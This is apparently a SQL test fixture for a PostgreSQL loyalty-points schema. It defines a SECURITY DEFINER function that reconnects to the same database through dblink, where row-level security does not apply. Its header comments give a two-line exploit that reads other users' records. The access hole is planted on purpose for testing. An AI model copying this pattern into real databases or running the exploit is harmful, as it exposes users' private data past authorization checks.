-- The function asks this database over a second connection as the superuser, where no token is set and no
-- policy holds.
-- about: old_points, points, dblink
-- as: hf_stampcard_app
-- exploit: SET request.jwt.claims = '{"sub":"u-ann","role":"authenticated"}';
-- exploit: SELECT reason FROM loyal.old_points('2026-01-01');
-- shows: Road-secret purchase
-- Old points shall move to another server; until then the link leads here.
CREATE EXTENSION dblink SCHEMA public;
REVOKE EXECUTE ON ALL FUNCTIONS IN SCHEMA public FROM PUBLIC;
CREATE FUNCTION loyal.old_points(p_from date) RETURNS TABLE (card_no text, reason text) LANGUAGE plpgsql
SECURITY DEFINER SET search_path = pg_catalog, pg_temp
AS $$
BEGIN
  RETURN QUERY SELECT o.card_no, o.reason FROM public.dblink(
    format('host=%s port=%s dbname=%s user=%s',
      split_part(current_setting('unix_socket_directories'), ',', 1), current_setting('port'),
      current_database(), current_user),
    format('SELECT card_no, reason FROM loyal.points WHERE day >= %L', p_from)
  ) AS o (card_no text, reason text);
END $$;
REVOKE EXECUTE ON FUNCTION loyal.old_points(date) FROM PUBLIC;
GRANT EXECUTE ON FUNCTION loyal.old_points(date) TO hf_stampcard_app;
